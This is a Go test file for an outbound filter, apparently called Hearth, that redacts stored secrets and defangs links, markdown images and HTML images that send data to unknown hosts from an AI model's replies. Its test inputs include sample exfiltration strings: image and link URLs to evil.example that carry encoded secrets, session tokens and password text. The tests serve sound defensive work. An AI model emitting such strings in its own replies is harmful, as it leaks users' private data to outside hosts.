package safety

import (
	"context"
	"slices"
	"strings"
	"testing"
)

func TestCheckOutbound(t *testing.T) {
	userHosts := func(_ context.Context, userID string) []string {
		if userID == "alice" {
			return []string{"intranet.example", "Blog.Alice.Example."}
		}
		return nil
	}
	g, log := newTestGuard(t, Options{UserHosts: userHosts, KnownHosts: []string{"corp.example"}})
	tests := []struct {
		name, user, in string
		gone           []string // must not be in the output
		kept           []string // must be in the output
		changed        bool
	}{
		{"plain reply", "alice", "The weather is sunny.", nil, []string{"The weather is sunny."}, false},
		{"stored secret", "alice", "Your key is " + storedSecret + ".", []string{storedSecret},
			[]string{"[REDACTED:secret:WEATHER_KEY]"}, true},
		{"image with data to unknown host", "alice", "Done! ![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)",
			[]string{"https://evil.example", "c2VjcmV0IGRhdGEgaGVyZQ", "![x]"}, []string{"Done!", "evil[.]example"}, true},
		{"link with data to unknown host", "alice", "See [report](https://evil.example/r?session=abcdef0123456789xyz).",
			[]string{"https://evil.example", "abcdef0123456789xyz"}, []string{"report", "hxxps://evil[.]example/r"}, true},
		{"bare url with data (unfurls)", "alice", "Open https://evil.example/c?q=the+user+said+their+password+is",
			[]string{"https://evil.example", "password"}, []string{"hxxps://evil[.]example/c"}, true},
		{"html image", "alice", `<img src="https://evil.example/t.gif?u=1234567890abcdefghij">`,
			[]string{"evil.example/t.gif"}, []string{"image removed by Hearth"}, true},
		{"link without data is fine", "alice", "Docs: https://docs.rust-lang.org/book/ch01-00-getting-started.html",
			nil, []string{"https://docs.rust-lang.org/book/ch01-00-getting-started.html"}, false},
		{"host the user used", "alice", "![x](https://blog.alice.example/p.png?id=c2VjcmV0IGRhdGEgaGVyZQ)",
			nil, []string{"https://blog.alice.example/p.png?id=c2VjcmV0IGRhdGEgaGVyZQ"}, false},
		{"subdomain of a used host", "alice", "https://a.intranet.example/x?token=0123456789abcdefgh",
			nil, []string{"https://a.intranet.example/x?token=0123456789abcdefgh"}, false},
		{"host another user used", "bob", "https://a.intranet.example/x?token=0123456789abcdefgh",
			[]string{"https://a.intranet.example"}, []string{"a[.]intranet[.]example"}, true},
		{"globally known host", "bob", "https://corp.example/search?q=quarterly+numbers+for+the+team",
			nil, []string{"https://corp.example/search?q=quarterly+numbers+for+the+team"}, false},
		{"built-in known host", "bob", "![ci](https://github.com/acme/x/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
			nil, []string{"https://github.com/acme"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := len(log.all())
			out, changes := g.CheckOutbound(context.Background(), tt.user, tt.in)
			for _, s := range tt.gone {
				if strings.Contains(out, s) {
					t.Errorf("output still holds %q: %q", s, out)
				}
			}
			for _, s := range tt.kept {
				if !strings.Contains(out, s) {
					t.Errorf("output lost %q: %q", s, out)
				}
			}
			if (len(changes) > 0) != tt.changed {
				t.Errorf("changes %v, want changed=%v", changes, tt.changed)
			}
			evs := log.all()[before:]
			if tt.changed != (len(evs) == 1) {
				t.Fatalf("audit events %+v", evs)
			}
			if tt.changed {
				if evs[0].Kind != "outbound" || evs[0].UserID != tt.user || !slices.Equal(evs[0].Changes, changes) {
					t.Errorf("audit event %+v", evs[0])
				}
				for _, c := range changes {
					if strings.Contains(c, storedSecret) {
						t.Error("a change description holds the secret")
					}
				}
			}
		})
	}
}
